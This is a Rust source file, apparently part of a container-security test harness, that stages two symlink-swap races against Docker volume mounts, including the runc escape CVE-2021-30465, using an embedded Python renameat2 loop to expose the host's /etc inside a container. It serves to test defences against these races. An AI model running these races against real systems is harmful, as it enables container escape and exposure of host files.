//! Names that mean one thing when they are judged and another when they are mounted.

use super::{
    case::{Attack, Attacker::Client},
    evidence::Evidence,
    ground::Ground,
    hosts::reads_with,
};
use crate::{Outcome, command::start};
use std::{
    os::unix::fs::symlink,
    path::Path,
    time::{Duration, Instant},
};

pub(super) const ATTACKS: &[Attack] = &[
    Attack::new(
        "races::a_link_that_changes",
        Client,
        "mounts what is a directory one moment and a link to /etc the next",
        "what was judged is what is mounted",
        a_link_that_changes,
    ),
    Attack::new(
        "races::a_destination_that_changes",
        Client,
        "mounts at a place that is a directory one moment and a link the next (CVE-2021-30465)",
        "the runtime below resolves it inside the container",
        a_destination_that_changes,
    )
    .without_control("the distribution's runc is mended"),
];

/// Exchanges two names as fast as it can, for six seconds.
const EXCHANGE: &str = "import ctypes, os, sys, time\n\
    libc = ctypes.CDLL(None, use_errno=True)\n\
    os.chdir(sys.argv[1])\n\
    end = time.time() + 6\n\
    while time.time() < end:\n\
    \x20   libc.renameat2(-100, b'innocent', -100, b'other', 2)\n\
    \x20   time.sleep(0.0005)\n";

/// A directory and a link to /etc that change places, while containers with these options start.
fn raced(ground: &Ground, place: &Path, options: &[&str], etc: &str) -> Outcome<Evidence> {
    std::fs::create_dir(place.join("innocent"))?;
    symlink("/etc", place.join("other"))?;
    let mut command = std::process::Command::new("/usr/bin/python3");
    command.args(["-c", EXCHANGE]).arg(place);
    let exchanging = start(&command)?;
    let mut evidence = Evidence::default();
    let begun = Instant::now();
    while begun.elapsed() < Duration::from_secs(5) && evidence.obtained.is_none() {
        let ran = reads_with(ground, options, etc)?;
        evidence = evidence.and(ran);
    }
    exchanging.end()?.ok()?;
    Ok(evidence)
}

fn a_link_that_changes(ground: &mut Ground) -> Outcome<Evidence> {
    let place = ground.place("race")?;
    let volume = format!("{}:/x", place.join("innocent").display());
    raced(ground, &place, &["--volume", &volume], "/x")
}

/// The destination lies in a volume of the attacker's, who moves it while the runtime mounts below it.
fn a_destination_that_changes(ground: &mut Ground) -> Outcome<Evidence> {
    ground.docker(&["volume", "create", "race"])?.ok()?;
    let line = ["volume", "inspect", "--format", "{{.Mountpoint}}", "race"];
    let place = ground.docker(&line)?.ok()?.text();
    let options = ["--volume", "race:/x", "--volume", "race:/x/innocent/deep"];
    raced(ground, Path::new(&place), &options, "/x/innocent")
}
